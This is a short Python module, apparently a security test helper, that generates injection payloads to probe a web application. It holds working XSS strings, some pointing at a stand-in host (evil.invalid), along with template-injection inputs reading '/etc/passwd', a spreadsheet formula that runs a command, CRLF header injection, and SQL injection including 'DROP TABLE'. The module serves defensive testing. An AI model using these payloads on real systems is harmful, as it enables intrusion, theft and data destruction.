"""Words that are meant to become something else: markup, a script, a template, a formula, a header, a query."""

from itertools import product

# Where a word may stand, and what would end that place.
OUT_OF = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option>",
    "`",
    "&quot;>",
    "&#34;>",
)
# `owned` is a word that no page of ours has, so whatever came to life is found by it.
DEEDS = (
    "<script>owned=1</script>",
    "<img src=x onerror=owned=1>",
    "<svg onload=owned=1>",
    "<svg><script>owned=1</script>",
    "<b data-owned>",
    "<iframe srcdoc='<script>parent.owned=1</script>'>",
    "<details open ontoggle=owned=1>",
    "<input autofocus onfocus=owned=1>",
    "<a href=javascript:owned=1 data-owned>x</a>",
    "<form action=//evil.invalid data-owned><input>",
    "<base href=//evil.invalid>",
    "<style>@import'//evil.invalid'</style>",
    "<link rel=stylesheet href=//evil.invalid>",
    "<meta http-equiv=refresh content=0;//evil.invalid>",
    " onmouseover=owned=1 autofocus onfocus=owned=1 x=",
    " hx-get=//evil.invalid hx-trigger=load x=",
    "<div hx-on:htmx:load=owned=1 hx-get=/ hx-trigger=load>",
    "javascript:owned=1//",
)
OTHERS = (
    "{{7*7}}", "${7*7}", "#{7*7}", "{% include '/etc/passwd' %}", "{{config}}", "%(owned)s", "=cmd|'/c calc'!A0", "@SUM(1+1)",
    "x\r\nSet-Cookie: owned=1", "%0d%0aSet-Cookie: owned=1", "' OR '1'='1", "'; DROP TABLE accounts_user; --",
)  # fmt: skip


def payloads(number: int) -> list[str]:
    """So many different ones, of every kind."""
    every = [*OTHERS, *(f"{place}{deed}" for deed, place in product(DEEDS, OUT_OF))]
    step = max(len(every) // number, 1)
    return every[::step][:number]
